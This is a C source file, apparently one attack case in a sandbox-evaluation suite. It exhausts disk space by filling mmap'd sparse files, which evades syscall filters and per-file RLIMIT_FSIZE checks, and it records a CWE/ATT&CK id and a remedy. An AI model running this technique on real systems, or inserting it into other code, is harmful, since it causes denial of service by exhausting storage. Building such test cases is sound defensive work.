// SPDX-License-Identifier: MIT
/*
 * mmap-sparse.c - a disk bomb written by the processor.
 *
 * Goal: more bytes on disk than the budget.
 * Means: a sparse file is mapped, and each store to a fresh page makes the file system find a
 * block. There is no system call to filter or to count. RLIMIT_FSIZE is asked once, by
 * ftruncate(2), and for each file: twelve files of 8 MiB pass.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define FILES 12
#define BYTES (8L << 20)

/* Make one file and fill it through a mapping. 0, or -1 with errno. */
static int fill(const char *name)
{
	int fd = open(name, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	void *at;

	if (fd < 0 || ftruncate(fd, BYTES))
		return -1;
	at = mmap(NULL, BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	if (at == MAP_FAILED)
		return -1;
	memset(at, 'x', BYTES);
	return munmap(at, BYTES);
}

static enum claim run(const struct brief *b)
{
	char name[64];

	if (chdir(getenv("TMPDIR") ?: "/tmp"))
		return failed("chdir");
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		snprintf(name, sizeof(name), "%s.%d", b->name, i);
		if (fill(name))
			return denied("mmap of a file");
	}
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "stores to mapped sparse files, which no filter sees",
	.oracle = "usage:disk",
	.id = "DISK-11",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "a quota, or a watch by statvfs while the program runs",
	.run = run,
};
